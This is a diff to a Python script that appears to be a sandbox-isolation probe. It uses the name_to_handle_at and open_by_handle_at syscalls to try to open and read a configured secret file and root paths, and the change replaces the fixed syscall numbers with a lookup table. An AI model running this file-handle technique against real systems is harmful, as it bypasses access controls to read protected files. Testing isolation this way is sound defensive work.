@@ -13,6 +13,7 @@ import ctypes
 import os
 
 libc = ctypes.CDLL(None, use_errno=True)
+nr = context["nr"]
 HEAD = 8
 
 
@@ -20,7 +21,7 @@ def handle_of(path, flags):
     handle = ctypes.create_string_buffer(HEAD + 128)
     ctypes.cast(handle, ctypes.POINTER(ctypes.c_uint))[0] = 128
     mount = ctypes.c_int()
-    done = libc.syscall(303, -100, path, handle, ctypes.byref(mount), flags)
+    done = libc.syscall(nr["name_to_handle_at"], -100, path, handle, ctypes.byref(mount), flags)
     return handle if done == 0 else None
 
 
@@ -34,7 +35,7 @@ for path in (context["secret_file"].encode(), b".", b"/", b"/tmp", b"/dev/null")
         handle = handle_of(path, flags)
         if handle:
             done.append([context["flag"], path.decode()])
-        fd = libc.syscall(304, start, handle or guess, os.O_RDONLY)
+        fd = libc.syscall(nr["open_by_handle_at"], start, handle or guess, os.O_RDONLY)
         if fd >= 0:
             try:
                 done.append(os.read(fd, 4096).decode())
